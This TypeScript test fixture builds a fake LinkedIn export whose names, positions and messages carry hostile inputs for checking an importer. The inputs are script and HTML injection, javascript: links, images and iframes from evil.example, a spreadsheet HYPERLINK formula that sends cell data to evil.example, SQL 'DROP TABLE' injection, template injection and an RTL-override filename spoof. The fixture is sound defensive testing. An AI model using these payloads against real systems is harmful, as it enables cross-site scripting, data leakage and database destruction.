import type { ExportFiles } from '../../support/make-zip.ts';
import { onDay } from './days.ts';

const LISTED = 'First Name,Last Name,URL,Email Address,Company,Position,Connected On';
const TALKS =
  'CONVERSATION ID,CONVERSATION TITLE,FROM,SENDER PROFILE URL,TO,RECIPIENT PROFILE URLS,DATE,SUBJECT,CONTENT,FOLDER';
const RTL_OVERRIDE = '\u202e';
const NUL = '\u0000';

interface HostileName {
  readonly kind: string;
  readonly name: string;
  /** A word of the name, by which it can be found. */
  readonly word: string;
}

const hostile = (kind: string, word: string, name: string): HostileName => ({ kind, word, name });

/** First names meant to do harm. */
export const HOSTILE_NAMES: readonly HostileName[] = [
  hostile('html', 'Markup', 'Markup<b>bold</b><img src=x onerror="alert(1)"><iframe src="https://evil.example">'),
  hostile('script', 'Scripty', 'Scripty<script>alert(document.title)</script><svg onload=alert(2)>'),
  hostile('override', 'Turnabout', `Turnabout ${RTL_OVERRIDE}gnp.exe`),
  hostile('nul', 'Nulled', `Nulled${NUL}Name`),
  hostile('long', 'Endless', `Endless ${'abcdefghi '.repeat(10_000)}`.trim()),
  hostile('unbroken', 'Unbroken', `Unbroken${'x'.repeat(5_000)}`),
  hostile('formula', 'Formulaic', '=HYPERLINK("https://evil.example?x="&A1;"Formulaic")'),
  hostile('template', 'Templated', `\${alert(3)} Templated {{7*7}}`),
  hostile('sql', 'Robert', "Robert'); DROP TABLE person;--"),
  hostile('marks', 'Marked', 'Marked [[not a fact]] **bold**'),
  hostile('combining', 'Zalgoria', `Z${'\u0351\u0321\u0322'.repeat(60)}algo Zalgoria`),
  hostile('emoji', 'Emojia', '👩‍👩‍👧‍👦🏳️‍🌈 Emojia'),
];

/** A LinkedIn export in which everyone's name, work, messages and address would do harm if they were taken for code. */
export function hostileExport(): ExportFiles {
  const list = HOSTILE_NAMES.map(({ kind: key, name }, at) =>
    [
      quoted(name),
      quoted(`<i>${key}</i>`),
      address(key),
      '',
      quoted(name.slice(0, 900)),
      quoted(`"><script>${key}`),
      on(-at - 3),
    ].join(),
  );
  const talks = HOSTILE_NAMES.flatMap(({ kind: key, name }, at) => [
    message(key, name, true, -20 - at, `javascript:alert('${key}') ${name.slice(0, 2_000)}`),
    message(key, name, false, -30 - at, `"><img src=https://evil.example/${key}.png> [a](javascript:alert(1))`),
  ]);
  const broken = [
    quoted('<b>Broken'),
    quoted('=1+1'),
    address('broken'),
    '',
    '<script>',
    'x',
    quoted('31 Feb <b>2019'),
  ].join();
  return {
    'Profile.csv': 'First Name,Last Name,Maiden Name,Address\nRobin,Vale,,\n',
    'Connections.csv': `${[LISTED, ...list, broken].join('\n')}\n`,
    'messages.csv': `${[TALKS, ...talks].join('\n')}\n`,
  };
}

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
const address = (key: string) => `https://www.linkedin.com/in/hostile-${key}`;

function on(days: number): string {
  const [year, month = '', day] = onDay(days).split('-');
  return `${day} ${'Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec'.split(' ')[Number(month) - 1]} ${year}`;
}

function message(key: string, name: string, isTheirs: boolean, days: number, text: string): string {
  const them = `${quoted(`${name} <i>${key}</i>`.slice(0, 3_000))},${address(key)}`;
  const you = 'Robin Vale,https://www.linkedin.com/in/robin-vale';
  const sides = isTheirs ? `${them},${you}` : `${you},${them}`;
  return `talk-${key},,${sides},${onDay(days)} 10:00:00 UTC,${quoted('<h1>Subject')},${quoted(text)},INBOX`;
}
